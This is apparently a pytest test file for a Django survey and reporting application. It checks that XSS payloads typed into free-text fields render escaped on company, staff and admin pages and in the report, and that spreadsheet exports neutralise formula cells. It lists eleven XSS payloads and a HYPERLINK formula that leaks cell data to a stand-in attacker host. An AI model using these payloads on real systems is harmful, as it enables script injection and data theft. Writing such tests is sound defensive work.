"""XSS: payloads in every free-text field render inert on company pages, staff pages, the admin and the report HTML.

Each payload tries to make an element whose attribute *name* carries a marker (`data-xss-N`): escaped text can never
produce an attribute name, so a marker found as one is injected markup that took hold. Each page must also show the
payload escaped, which proves a free-text field really was drawn there.

CSV and XLSX exports neutralise formula cells: tests/surveys/test_export.py and tests/workforce (exports) cover them.
"""

import csv
import io
import re
from urllib.parse import quote

import openpyxl
import pytest
from django.contrib.admin import site as admin_site
from django.test import Client
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX

from companies.admin import CompanyAdmin
from companies.models import Company, Contact
from reports.services.report import report_render_html
from surveys.models import Answer
from teknokyla.core.spreadsheets import FORMULA_STARTS

from ..factories import CompanyFactory, UserFactory
from ..surveys.conftest import PAGE_1, PAGE_2, PAGE_3
from .conftest import World, opened
from .markup import inline_parts, live_elements

MARKER = "data-xss"
PAYLOADS = [
    "<script data-xss-1>alert(1)</script>",
    "<img data-xss-2 src=x onerror=alert(2)>",
    '"><svg data-xss-3 onload=alert(3)>',
    "'><iframe data-xss-4 src=javascript:alert(4)></iframe>",
    "</textarea><b data-xss-5 onmouseover=alert(5)>x</b>",
    '</title><a data-xss-6 href="javascript:alert(6)">x</a>',
    '" onfocus="alert(7)" autofocus data-xss-7="',
    "' onfocus='alert(8)' autofocus data-xss-8='",
    "[klikkaa](javascript:alert(9)) <a data-xss-9 href=javascript:alert(9)>x</a>",
    "<style data-xss-10>body{display:none}</style>{{ 10|add:10 }}",
    "<math><mtext><table><mglyph><style><img data-xss-11 src=x onerror=alert(11)>",
]


SEARCH_WORD = "kiertotalous"


def inject(world: World, payload: str) -> None:
    """The payload in every free-text field a person can type, through the models the pages read.

    Texts that the search indexes also carry a plain word, so the search finds them whatever the payload does to
    PostgreSQL's parser, and draws their snippets.
    """
    text = f"{SEARCH_WORD} {payload}"
    company = world.company
    company.name, company.description = payload, payload
    company.save(update_fields=["name", "description"])
    # The one that has not answered: the dashboard lists it, with its reminder button.
    world.other_company.name = payload
    world.other_company.save(update_fields=["name"])
    Contact.objects.filter(company=company).update(name=payload, title=payload)
    world.building.description = payload
    world.building.save(update_fields=["description"])
    world.theme.name = payload[:100]
    world.theme.save(update_fields=["name"])
    interview = world.interview
    interview.notes, interview.room = text, payload[:100]
    interview.save(update_fields=["notes", "room"])
    workshop = world.workshop
    workshop.title, workshop.purpose, workshop.notes, workshop.outcomes = payload, text, text, text
    workshop.save(update_fields=["title", "purpose", "notes", "outcomes"])
    world.attachment.original_name, world.attachment.description = payload, payload
    world.attachment.save(update_fields=["original_name", "description"])
    world.finding.text = text
    world.finding.save(update_fields=["text"])
    measure = world.measure
    measure.title, measure.description, measure.indicator, measure.funding_source = payload, text, payload, payload
    measure.save(update_fields=["title", "description", "indicator", "funding_source"])
    plan = world.plan
    plan.title, plan.summary, plan.starting_point, plan.vision = payload, payload, payload, payload
    plan.save(update_fields=["title", "summary", "starting_point", "vision"])
    world.goal.title, world.goal.description = payload, payload
    world.goal.save(update_fields=["title", "description"])
    world.need.role = payload
    world.need.save(update_fields=["role"])
    world.programme.name = payload
    world.programme.save(update_fields=["name"])


def answer_everything(client: Client, payload: str) -> None:
    """The company answers every free-text question (and "other") with the payload, then submits."""
    texts = {
        1: {**PAGE_1, "contact_name": payload, "description": payload},
        2: {**PAGE_2, "growth_how": payload, "digital_detail": payload, "services__other": payload},
        3: {**PAGE_3, "wish": payload, "partners": payload},
    }
    for number, data in texts.items():
        url = reverse("surveys:page", args=[number])
        version = client.get(url).context["form"]["version"].value()
        reply = client.post(url, {**data, "version": version, "action": "save"})
        assert reply.status_code == 302, reply.content.decode()[:2000]
    assert client.post(reverse("surveys:submit")).status_code == 302


def company_pages(world: World) -> list[str]:
    return [
        reverse("surveys:start"),
        reverse("surveys:page", args=[1]),
        reverse("surveys:page", args=[2]),
        reverse("surveys:page", args=[3]),
        reverse("surveys:summary"),
        reverse("surveys:thanks"),
    ]


def staff_pages(world: World, payload: str) -> list[str]:
    slug = world.survey.slug
    return [
        reverse("companies:directory"),
        reverse("companies:detail", args=[world.company.pk]),
        reverse("companies:building", args=[world.building.slug]),
        reverse("surveys:dashboard", args=[slug]),
        reverse("surveys:results", args=[slug]),
        reverse("workshops:interviews"),
        reverse("workshops:interview", args=[world.interview.pk]),
        reverse("workshops:interview_edit", args=[world.interview.pk]),
        reverse("workshops:workshops"),
        reverse("workshops:workshop", args=[world.workshop.pk]),
        reverse("workshops:workshop_edit", args=[world.workshop.pk]),
        reverse("workshops:findings"),
        reverse("workshops:finding", args=[world.finding.pk]),
        reverse("workshops:finding_edit", args=[world.finding.pk]),
        reverse("workshops:board"),
        reverse("workshops:measures"),
        reverse("workshops:measure", args=[world.measure.pk]),
        reverse("workshops:measure_edit", args=[world.measure.pk]),
        reverse("search:search") + f"?q={SEARCH_WORD}",  # snippets with the matches highlighted
        reverse("search:search") + "?q=" + quote(payload),  # the query shown back in the search field
        reverse("reports:plans"),
        reverse("reports:plan", args=[world.plan.pk]),
        reverse("reports:plan_edit", args=[world.plan.pk]),
        reverse("reports:report_preview", args=[world.plan.pk]),
        reverse("reports:builds"),
        reverse("workforce:needs"),
        reverse("workforce:need", args=[world.need.pk]),
        reverse("workforce:need_edit", args=[world.need.pk]),
        reverse("workforce:programmes"),
        reverse("workforce:programme", args=[world.programme.pk]),
        reverse("workforce:programme_edit", args=[world.programme.pk]),
    ]


ADMIN_MODELS = [
    "companies_company",
    "companies_contact",
    "surveys_response",
    "surveys_answer",
    "workshops_interview",
    "workshops_workshop",
    "workshops_finding",
    "workshops_measure",
    "workshops_theme",
    "reports_developmentplan",
    "workshops_goal",
    "workforce_workforceneed",
    "workforce_educationprogramme",
]


def admin_pages(world: World) -> list[str]:
    records = {
        "companies_company": world.company,
        "workshops_finding": world.finding,
        "workshops_measure": world.measure,
        "reports_developmentplan": world.plan,
        "surveys_response": world.response,
    }
    pages = [reverse(f"admin:{model}_changelist") for model in ADMIN_MODELS]
    pages += [reverse(f"admin:{model}_change", args=[record.pk]) for model, record in records.items()]
    return pages


def assert_inert(html: str, payload: str, where: str) -> None:
    assert not live_elements(html, MARKER), f"{where}: injected markup took hold: {live_elements(html, MARKER)}"
    found = inline_parts(html)
    assert not found.scripts, f"{where}: inline script {found.scripts}"
    assert not found.handlers, f"{where}: event handler {found.handlers}"
    assert not found.javascript_urls, f"{where}: javascript: URL {found.javascript_urls}"
    # The payload's marker is on the page as text: a free-text field was drawn here (or the checks prove nothing).
    assert re.search(r"data-xss-\d+", payload)[0] in html, f"{where}: the payload is not on the page"


def fields_holding(world: World, payload: str) -> int:
    """How many stored free-text fields (of the world's records, and the company's answers) hold the payload."""
    from django.db import models

    records = [
        world.company, world.other_company, world.building, world.theme, world.interview, world.workshop,
        world.attachment, world.finding, world.measure, world.plan, world.goal, world.need, world.programme,
    ]  # fmt: skip
    count = 0
    for record in records:
        record.refresh_from_db()
        for field in record._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField) and payload in (
                getattr(record, field.attname) or ""
            ):
                count += 1
    answers = Answer.objects.filter(response=world.response)
    return count + answers.filter(value=payload).count() + answers.filter(other_text=payload).count()


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload-{n}" for n in range(1, len(PAYLOADS) + 1)])
@pytest.mark.trust(
    "An XSS payload typed into a free-text field runs on a company, staff or admin page or the report", area="Security"
)
def test_payloads_in_every_free_text_field_render_inert(payload, world, clients, trust_figure):
    inject(world, payload)
    company = clients["company"]
    answer_everything(company, payload)
    assert Answer.objects.filter(response=world.response, value=payload).count() == 6
    assert Answer.objects.filter(response=world.response, other_text=payload).exists()

    pages = 0
    for url in company_pages(world):
        reply = company.get(url)
        assert reply.status_code == 200, url
        assert_inert(reply.content.decode(), payload, f"company {url}")
        pages += 1

    for url in staff_pages(world, payload):
        reply = clients["staff"].get(url)
        assert reply.status_code == 200, url
        assert_inert(reply.content.decode(), payload, f"staff {url}")
        pages += 1

    admin = Client()
    admin.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    for url in admin_pages(world):
        reply = admin.get(url)
        assert reply.status_code == 200, url
        assert_inert(reply.content.decode(), payload, f"admin {url}")
        pages += 1

    report = report_render_html(plan=world.plan, survey=world.survey, language="fi")
    assert_inert(report, payload, "report HTML")
    # A fresh browser opening the link again sees the company's own (injected) name escaped, and nothing live.
    assert_inert(opened(world.token).get(reverse("surveys:start")).content.decode(), payload, "reopened start")
    trust_figure("free-text fields holding it", fields_holding(world, payload))
    trust_figure("pages and report checked", pages + 2)
    trust_figure("injected elements alive in the report", len(live_elements(report, MARKER)))


# Formula cells in the admin's export -------------------------------------------------------------------------------
# The survey and workforce exports are tested in tests/surveys/test_export.py and tests/workforce/test_views.py;
# the company export of the admin (django-import-export) is tested here.

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _export(client: Client, fmt: str) -> list[list]:
    formats = CompanyAdmin(Company, admin_site).get_export_formats()
    index = formats.index({"csv": CSV, "xlsx": XLSX}[fmt])
    fields = {f"companyresource_{name}": "on" for name in ("name", "business_id", "kind", "website")}
    reply = client.post(reverse("admin:companies_company_export"), {"format": index, "resource": 0, **fields})
    assert reply.status_code == 200, reply.content.decode()[:500]
    if fmt == "csv":
        return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(reply.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.trust("A company name typed as a formula runs in the spreadsheet of an admin export", area="Security")
def test_the_admin_company_export_neutralises_formula_cells(fmt, client, trust_figure):
    for formula in FORMULAS:
        CompanyFactory(name=formula)
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    rows = _export(client, fmt)
    # (a spreadsheet file reads a carriage return back as a line feed)
    names = [row[0].replace("\r", "\n") for row in rows[1:]]
    assert sorted(names) == sorted(("'" + formula).replace("\r", "\n") for formula in FORMULAS)
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert Company.objects.filter(name=FORMULAS[0]).exists()  # the registry itself keeps the name as typed
    trust_figure("formula cells exported", len(names))
    trust_figure("formula cells neutralised", sum(name.startswith("'") for name in names))
    trust_figure("cells left as formulas", len([cell for cell in cells if cell.startswith(FORMULA_STARTS)]))
